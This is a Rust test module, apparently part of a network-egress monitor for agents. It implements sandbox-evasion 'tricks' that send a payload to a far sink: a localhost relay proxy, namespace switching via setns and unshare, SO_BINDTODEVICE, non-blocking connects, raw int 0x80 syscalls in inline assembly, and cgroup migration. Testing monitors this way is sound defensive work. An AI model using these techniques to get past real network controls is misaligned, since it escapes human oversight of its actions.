//! N29, N30, N39: the network itself is another one, or somebody passes things on.

use std::{
    fs::{self, File},
    io::{self, Read, Write},
    net::{Ipv4Addr, TcpListener, TcpStream, UdpSocket},
    os::fd::OwnedFd,
};

use super::{connect, send, socket, tcp, udp, v4};
use crate::{
    case::{Case, PAYLOAD},
    gift::Gift,
    sink::{FAR, PORT},
    sys::{self, call, fd, of},
    trick::{Expect, Trick, reach},
};

pub(crate) const TRICKS: &[Trick] = &[
    reach("N30", "an approved peer that passes everything on (a proxy)", by_proxy)
        .before(relay)
        .payload()
        .both(Expect::Limit("the approved peer passes it on: an address says no more than that")),
    reach("N29a", "another network namespace is entered", |case| {
        enter(&case.gift(0))?;
        to_far()
    })
    .before(leave_network),
    reach("N29b", "a socket made in another network namespace", |_| {
        // The network that is left has a far end, the agent's new one has none.
        let socket = tcp()?;
        sys::unshare(libc::CLONE_NEWNET)?;
        connect(&socket, &v4(FAR, PORT))?;
        send(&socket)
    }),
    reach(
        "N29c",
        "a user namespace with a network of one's own, and a socket from before",
        |case| {
            let socket = case.gift(0);
            sys::own_users()?;
            sys::unshare(libc::CLONE_NEWNET)?;
            super::send_to(&socket, 0, &v4(FAR, PORT))
        },
    )
    .before(|_, gift| {
        gift.leave(UdpSocket::bind("0.0.0.0:0")?);
        Ok(())
    }),
    reach("N29d", "by nsfs of another process, and UDP", |case| {
        let path = format!("/proc/{}/ns/net", case.word(0)?);
        enter(&File::open(path)?.into())?;
        super::send_to(&udp()?, 0, &v4(FAR, PORT))
    })
    .before(|_, gift| {
        let holder = gift.hold(|ready| ready.write_all(b"ready\n"))?;
        gift.say(holder.pid);
        Ok(())
    }),
    reach("N39a", "bound to a device", |_| {
        let socket = tcp()?;
        let name = *b"lo\0";
        let arguments =
            [fd(&socket), libc::SOL_SOCKET as usize, libc::SO_BINDTODEVICE as usize, of(&name), 3];
        call(libc::SYS_setsockopt, arguments)?;
        connect(&socket, &v4(FAR, PORT))?;
        send(&socket)
    }),
    reach("N39b", "not waiting for the connection", |_| {
        let socket = socket(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0)?;
        // It is under way, and the far end accepts it.
        let _under_way = connect(&socket, &v4(FAR, PORT));
        std::thread::sleep(std::time::Duration::from_millis(50));
        send(&socket)
    }),
    reach("N39c", "by the gate of 32-bit programs", by_int80).needs("the gate of 32-bit programs"),
    reach("N39d", "from another cgroup", |case| {
        fs::write(case.word(0)?, std::process::id().to_string())?;
        to_far()
    })
    .before(|_, gift| {
        let cgroup = driftwatch_tests::cgroup::ScratchCgroup::new().map_err(io::Error::other)?;
        gift.say(cgroup.path().join("cgroup.procs").display());
        gift.cgroups.push(cgroup);
        Ok(())
    }),
];

fn to_far() -> io::Result<()> {
    let socket = tcp()?;
    connect(&socket, &v4(FAR, PORT))?;
    send(&socket)
}

fn enter(network: &OwnedFd) -> io::Result<()> {
    call(libc::SYS_setns, [fd(network), libc::CLONE_NEWNET as usize]).map(drop)
}

/// The stage's network, for an agent that is in it already: entering is a call all the same.
fn leave_network(_: &Case, gift: &mut Gift) -> io::Result<()> {
    gift.leave(File::open("/proc/self/ns/net")?);
    Ok(())
}

/// Somebody listens where the agent may connect, and passes on what comes.
fn relay(_: &Case, gift: &mut Gift) -> io::Result<()> {
    gift.hold(|ready| {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, RELAY))?;
        ready.write_all(b"ready\n")?;
        let (mut near, _) = listener.accept()?;
        let mut bytes = [0; 256];
        let length = near.read(&mut bytes)?;
        TcpStream::connect((FAR, PORT))?.write_all(&bytes[..length])
    })?;
    Ok(())
}

/// Where it listens.
const RELAY: u16 = crate::sink::PASSED_ON;

fn by_proxy(_: &Case) -> io::Result<()> {
    TcpStream::connect((Ipv4Addr::LOCALHOST, RELAY))?.write_all(PAYLOAD)
}

fn by_int80(_: &Case) -> io::Result<()> {
    const CONNECT_OF_32_BIT: usize = 362;
    let (socket, address) = (tcp()?, v4(FAR, PORT));
    let flags = libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_32BIT;
    let low = call(libc::SYS_mmap, [0, 4096, 3, flags as usize, usize::MAX, 0])?;
    sys::store(low as *mut u8, sys::seen(std::ptr::from_ref(&address).cast(), 16));
    let mut answer = CONNECT_OF_32_BIT;
    // SAFETY: the address lies below 4 GiB; rbx is put back; the gate may clear r8 to r11.
    unsafe {
        std::arch::asm!(
            "xchg rbx, r12", "int 0x80", "xchg rbx, r12",
            inout("r12") fd(&socket) => _, inout("rax") answer, in("rcx") low, in("rdx") 16_usize,
            out("r8") _, out("r9") _, out("r10") _, out("r11") _,
        );
    }
    match answer {
        0 => send(&socket),
        _ => Err(io::Error::other(format!("the gate answered {answer:#x}"))),
    }
}
